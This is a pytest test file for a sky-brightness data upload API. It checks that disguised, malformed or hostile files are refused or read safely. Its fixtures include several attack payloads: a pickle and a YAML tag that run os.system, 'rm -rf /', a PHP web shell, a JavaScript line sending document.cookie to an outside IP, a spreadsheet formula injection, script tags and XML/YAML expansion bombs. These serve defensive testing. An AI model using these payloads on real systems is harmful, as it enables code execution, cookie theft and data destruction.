"""Files that are not what they seem: refused with what they look like, or read with every odd row told."""

import gzip
import io
import json
import re
import tarfile
import zipfile

import pytest

HEADINGS = b"date;time;longitude;latitude;brightness;comment\n"
ROW = b"2022-09-25;22:15;4.4840;52.1550;18,72;\n"
TEMPLATE = HEADINGS + ROW
DAT = (
    b"# Light Pollution Monitoring Data Format 1.0\r\n# Device type: SQM-LE\r\n# Instrument ID: x\r\n# Position: 52.155, 4.484, 2\r\n"
    b"# UTC Date & Time, Local Date & Time, Temperature, Counts, Frequency, MSAS\r\n# END OF HEADER\r\n"
    b"2022-09-25T20:10:00.000;2022-09-25T22:10:00.000;27.30;90223.000;5.102;18.140\r\n"
)
GAN = (
    b"ID,ObsType,ObsDateTime,Latitude,Longitude,Elevation,UTCOffset,LimitingMag,CloudCover,SQMReading,SQMSerial,Constellation,"
    b"SkyComment,LocationComment,Country\n1,Globe at Night,2022-09-26 00:15:00+00:00,52.155,4.484,2.5,-120,4,25,18.7,2534,,,,\n"
)
PDF = b"%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>>>> endobj\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 40
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script>404 Not Found</body></html>"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 40


def zip_of(content):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.csv", content)
    return out.getvalue()


def tar_of(content):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("a.csv")
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


# Name of the file, its bytes, and what its refusal says.
REFUSED = {
    "empty file": ("a.csv", b"", "an empty file"),
    "blank lines": ("a.csv", b"\n" * 1000, "blank lines"),
    "spaces": ("a.csv", b" " * 100_000, "looks like"),
    "NULs": ("a.csv", b"\x00" * 100_000, "binary file"),
    "random bytes": ("a.csv", bytes(range(256)) * 50, "binary file"),
    "PDF saved as csv": ("a.csv", PDF, "a PDF"),
    "PDF with our rows behind": ("a.csv", PDF + TEMPLATE, "a PDF"),
    "PNG saved as csv": ("a.csv", PNG, "a PNG image"),
    "PNG with our rows behind": ("a.csv", PNG + TEMPLATE, "a PNG image"),
    "JPEG with a zip behind": ("a.jpg", JPEG + zip_of(TEMPLATE), "a JPEG photograph"),
    "GIF with a script": ("a.csv", GIF + b"<script>alert(1)</script>", "a GIF image"),
    "GIF and zip in one": ("a.zip", GIF + zip_of(TEMPLATE), "a GIF image"),
    "web page saved as csv": ("a.csv", HTML, "a web page"),
    "web page saved as h5": ("VNP46A2.A2022290.h18v03.001.h5", HTML, "a web page"),
    "web page saved as dat": ("20220925_120000_SQM.dat", HTML, "a web page"),
    "login page with our headings": ("a.csv", HTML + b"\n" + TEMPLATE, "a web page|heading|looks like"),
    "SVG with a script": ("a.svg", b'<?xml version="1.0"?><svg onload="alert(1)"/>', "an XML file"),
    "XML of a billion laughs": ("a.xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>', "an XML file"),
    "KML": ("a.kml", b'<kml xmlns="http://www.opengis.net/kml/2.2"/>', "an XML file"),
    "JSON of nobody": ("a.json", b'{"a": 1}', "a JSON file"),
    "JSON nested deep": ("a.json", b"[" * 200_000 + b"]" * 200_000, "looks like"),
    "JSON of braces": ("a.json", b'{"a":' * 100_000, "a JSON file"),
    "HDF5 of its first bytes": ("a.csv", b"\x89HDF\r\n\x1a\n", "HDF5|damaged|cannot be"),
    "HDF5 of rubbish": ("a.h5", b"\x89HDF\r\n\x1a\n" + b"\xff" * 5000, "HDF5|damaged|cannot be"),
    "HDF5 with our rows": ("a.csv", b"\x89HDF\r\n\x1a\n" + TEMPLATE, "HDF5|damaged|cannot be"),
    "TIFF of its first bytes": ("a.tif", b"II*\x00", "TIFF|damaged|cannot|no readable"),
    "TIFF that points into itself": ("a.tif", b"II*\x00\x08\x00\x00\x00\xff\xff" + b"\x00" * 200, "TIFF|damaged|cannot|no readable"),
    "BigTIFF of rubbish": ("a.tif", b"II+\x00\x08\x00\x00\x00" + b"\xff" * 100, "TIFF|damaged|cannot|no readable"),
    "netCDF": ("a.nc", b"CDF\x01" + b"\x00" * 100, "a netCDF file"),
    "FITS": ("a.fits", b"SIMPLE  =                    T" + b" " * 2000, "a FITS image"),
    "Parquet": ("a.parquet", b"PAR1" + b"\x00" * 100, "a Parquet file"),
    "SQLite database": ("a.db", b"SQLite format 3\x00" + b"\x00" * 100, "a SQLite database"),
    "program for Windows": ("a.exe", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200, "binary file"),
    "program for Linux": ("a.csv", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200, "binary file"),
    "program for Java": ("a.class", b"\xca\xfe\xba\xbe\x00\x00\x004", "binary file"),
    "pickle that runs a program": ("a.csv", b"\x80\x04\x95\x1d\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.", "binary file"),
    "YAML that runs a program": ("a.ecsv", b"# %ECSV 1.0\n# ---\n# !!python/object/apply:os.system ['id']\ntime,MSAS\n", "needs|looks|head|no |must have"),
    "ECSV with a bomb of YAML": ("a.ecsv", b"# %ECSV 1.0\n# ---\n# a: &a [x,x,x,x]\n# b: &b [*a,*a,*a,*a]\n# c: &c [*b,*b,*b,*b]\n# d: [*c,*c,*c,*c]\ntime\n", "must have the columns time and MSAS"),
    "shell script": ("a.sh", b"#!/bin/sh\nrm -rf /\n", "looks like"),
    "PHP": ("a.php", b"<?php system($_GET['c']); ?>", "looks like"),
    "SQL dump": ("a.csv", b"DROP TABLE readings; -- 1\nDELETE FROM uploads;\n", "looks like"),
    "7z": ("a.7z", b"7z\xbc\xaf\x27\x1c\x00\x04", "a 7z archive"),
    "RAR": ("a.rar", b"Rar!\x1a\x07\x00", "a RAR archive"),
    "bzip2": ("a.bz2", b"BZh91AY&SY", "a bzip2 archive"),
    "xz": ("a.xz", b"\xfd7zXZ\x00", "an xz archive"),
    "tar": ("a.tar", tar_of(TEMPLATE), "binary file"),
    "tar packed by gzip": ("a.tar.gz", gzip.compress(tar_of(TEMPLATE)), "binary file"),
    "UTF-32 of the other kind without its mark": ("a.csv", TEMPLATE.decode().encode("utf-32-be"), "binary file"),
    "EBCDIC": ("a.csv", TEMPLATE.decode().encode("cp500"), "looks like"),
    "UTF-16 without its mark": ("a.csv", TEMPLATE.decode().encode("utf-16-le"), "binary file"),
    "template with NULs": ("a.csv", TEMPLATE.replace(b"4.4840", b"4.4\x00840"), "binary file"),
    "template without a place": ("a.csv", b"date;time;brightness\n2022-09-25;22:15;18.7\n", "needs the heading longitude"),
    "template with a heading twice": ("a.csv", b"date;time;longitude;latitude;brightness;helderheid\n", "more than once"),
    "template of 100,001 rows": ("a.csv", HEADINGS + ROW * 100_001, "at most|100"),
    "one line of 3 MB": ("a.csv", b"9" * 3_000_000, "one line of text"),
    "a million columns of nobody": ("a.csv", b",".join(b"c%d" % i for i in range(1_000_000)) + b"\n", "columns that we do not know|one line"),
    "a million quotation marks": ("a.csv", b'"' * 1_000_000, "looks like"),
    "a million semicolons": ("a.csv", b";" * 1_000_000, "looks like"),
    "settings dump": ("a.dat", b"[Serial:9001]\r\nHardwareID=B0\r\nInstrument ID=BUOY\r\n", "dump of settings"),
    "log of a serial port": ("a.dat", b"2025-03-27 17:09:43.153 : SN 9001 : Sent: m0x   To: /dev/ttyUSB0   Received: m0,255\n" * 3, "a log of what"),
    "readings without UTC": ("a.csv", b"#Local Time,SQM,Temp\n2025-06-05T18:46:32.000,19.86,27.94\n", "without UTC"),
    "JavaScript": ("a.js", b"fetch('//192.0.2.1/'+document.cookie)", "looks like"),
    "mail with headers": ("a.eml", b"From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\n\r\nhello\r\n", "looks like"),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_is_not_what_it_seems_is_refused_with_what_it_looks_like(ask, make_form, name):
    file_name, content, reason = REFUSED[name]
    preview = ask("POST", "/api/v1/uploads", query=b"preview=true", **make_form([(file_name, content)]))
    assert preview.status == 200, preview.body
    (file,) = preview.json["files"]
    assert file["accepted"] is False
    assert re.search(reason, file["reason"]["en"]), file["reason"]["en"]
    assert file["reason"]["nl"] != file["reason"]["en"]
    assert ask("POST", "/api/v1/uploads", **make_form([(file_name, content)])).status == 422


# Bytes, rows read, rows with a problem.
READ = {
    "template with a zip behind": (TEMPLATE + zip_of(TEMPLATE), None, None),
    "template with a PDF behind": (TEMPLATE + PDF, None, None),
    "template in Latin-1": (TEMPLATE.replace(b"52.1550;18,72;", b"52.1550;18,72;caf\xe9"), 1, 0),
    "template in UTF-16": (TEMPLATE.decode().encode("utf-16"), 1, 0),
    "template in UTF-32": (TEMPLATE.decode().encode("utf-32"), 1, 0),
    "template with a byte order mark": (b"\xef\xbb\xbf" + TEMPLATE, 1, 0),
    "template with broken UTF-8": (TEMPLATE.replace(b"18,72;", b"18,72;\xc3\x28\xf0\x9f\xff"), 1, 0),
    "template with overlong UTF-8": (TEMPLATE.replace(b"18,72;", b"18,72;\xc0\xaf\xe0\x80\xaf"), 1, 0),
    "template with halves of characters": (TEMPLATE.replace(b"18,72;", b"18,72;\xed\xa0\x80\xed\xbf\xbf"), 1, 0),
    "template with CR for line ends": (TEMPLATE.replace(b"\n", b"\r"), 1, 0),
    "template with every line end": (HEADINGS.replace(b"\n", b"\r\n") + ROW + b"\r\n\r\r\n", 1, 0),
    "template with an open quotation mark": (TEMPLATE + b'2022-09-25;22:25;4.4840;52.1550;18,72;"open\n' + ROW, 3, None),
    "template with a row of 10,000 cells": (TEMPLATE + b"2022-09-25;22:25" + b";x" * 10_000 + b"\n", 2, 1),
    "template with a comment of 3 MB": (HEADINGS + ROW.replace(b"18,72;", b"18,72;" + b"x" * 3_000_000), None, None),
    "template with a heading of 10^5 columns": (HEADINGS[:-1] + b";x" * 100_000 + b"\n" + ROW, 1, 0),
    "dat with one field too many": (DAT + b"2022-09-25T20:15:00.000;2022-09-25T22:15:00.000;27.30;9;5;18.1;1;2;3\r\n", 2, None),
    "dat with NaN for a reading": (DAT + b"2022-09-25T20:15:00.000;2022-09-25T22:15:00.000;27.30;9;5;nan\r\n", 2, None),
    "dat with infinity": (DAT + b"2022-09-25T20:15:00.000;2022-09-25T22:15:00.000;inf;9;5;1e999\r\n", 2, None),
    "dat of the year 9999": (DAT + b"9999-12-31T23:59:59.999;9999-12-31T23:59:59.999;27.30;9;5;18.1\r\n", 2, None),
    "dat of the year 1": (DAT + b"0001-01-01T00:00:00.000;0001-01-01T00:00:00.000;27.30;9;5;18.1\r\n", 2, None),
    "dat at a place beyond the Earth": (DAT.replace(b"52.155, 4.484, 2", b"952.155, 9994.484, 1e99"), 1, None),
    "dat whose instrument is a formula": (DAT.replace(b"# Instrument ID: x", b"# Instrument ID: =cmd|'/C calc'!A0"), 1, None),
    "Globe at Night with a script": (GAN.replace(b"2534,,,,", b"2534,,<script>alert(1)</script>,=1+1,"), 1, None),
    "Globe at Night of 8e27 mag": (GAN.replace(b"18.7,2534", b"8e27,2534"), 1, None),
    "Globe at Night at 3737670 degrees": (GAN.replace(b"52.155,4.484", b"3737670,4.484"), 1, None),
    "Globe at Night of year 9999": (GAN.replace(b"2022-09-26 00:15:00", b"9999-12-31 23:59:59"), 1, None),
    "Globe at Night with an offset of 10^12 minutes": (GAN.replace(b"-120", b"999999999999"), 1, None),
    "Globe at Night as JSON with Infinity": (b'[{"ObsType": "Globe at Night", "UTDate": "2024-09-25", "UTTime": "20:15", "Latitude": Infinity, "Longitude": NaN}]', None, None),
    "Globe at Night as JSON with names twice": (b'[{"ObsType": "Globe at Night", "UTDate": "2024-09-25", "UTTime": "20:15", "Latitude": 1, "Latitude": 2, "Longitude": 3}]', None, None),
    "template packed by gzip": (gzip.compress(TEMPLATE), 1, 0),
}  # fmt: skip


@pytest.mark.parametrize("name", READ)
def test_an_odd_file_is_read_row_by_row_or_refused_and_never_a_fault_of_ours(ask, make_form, name):
    content, n_rows, n_problems = READ[name]
    answer = ask("POST", "/api/v1/uploads", query=b"preview=true", **make_form([("file.dat", content)]))
    assert answer.status == 200, answer.body
    (file,) = answer.json["files"]
    if n_rows is not None:
        assert (file["accepted"], file["rows_read"]) == (True, n_rows), file
        assert len(file["rows"]) == n_rows
    if n_problems is not None:
        assert file["row_problems"] == n_problems
    kept = ask("POST", "/api/v1/uploads", **make_form([("file.dat", content)]))
    assert kept.status == (201 if file["accepted"] else 422), kept.body


def test_what_hostile_files_left_behind_can_still_be_downloaded(ask, make_form):
    for name in (
        "dat with infinity",
        "dat of the year 9999",
        "Globe at Night of 8e27 mag",
        "template with a comment of 3 MB",
    ):
        ask("POST", "/api/v1/uploads", **make_form([("file.dat", READ[name][0])]))
    for query in (b"format=csv", b"format=geojson", b"format=parquet", b""):
        answer = ask("GET", "/api/v1/readings", query=query)
        assert answer.status == 200
        assert b"<script" not in answer.body or query == b"format=parquet" or query == b"format=csv"
    assert all(json.loads(ask("GET", "/api/v1/readings", query=b"limit=1000").body)["readings"])
